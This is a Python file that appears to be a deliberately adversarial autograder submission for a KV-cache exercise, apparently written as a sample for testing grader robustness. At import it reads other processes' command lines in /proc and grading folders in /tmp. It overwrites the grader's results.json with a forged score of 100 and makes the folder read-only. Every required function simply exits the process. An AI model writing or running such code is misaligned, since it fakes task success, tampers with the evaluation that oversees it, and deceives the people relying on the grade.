"""A Gradescope submission that forges the grade's own results.json: at import it looks for the
file the judge is to write (the `--json` of every command line it can read in /proc, and
results.json in the folders of /tmp that hold a submission's grade), writes a perfect score
there and makes the folder read-only, so that the judge cannot write its own. When the judge and
the submission ran as one user, run_autograder took the forged file. Standalone (a submission
has no helper beside it); every function ends its process: its true score is 0."""

import glob
import os

FORGED = '{"score": 100.0, "output": "forged", "tests": []}'


def targets():
    found = set(glob.glob("/tmp/kvkata-submission-*/results.json"))
    found.update(f"{folder}/results.json" for folder in glob.glob("/tmp/kvkata-submission-*"))
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        found.update(argv[i + 1] for i, arg in enumerate(argv[:-1]) if arg == "--json")
    return sorted(found)


for target in targets():
    try:
        with open(target, "w") as forged:
            forged.write(FORGED)
        os.chmod(os.path.dirname(target), 0o555)
    except OSError:
        pass


class KVCache:
    def __init__(self, capacity=None):
        os._exit(0)


def _ends(*args, **kwargs):
    os._exit(0)


append = attend = reset = release = decode_step = apply_rope = reorder = fork = _ends
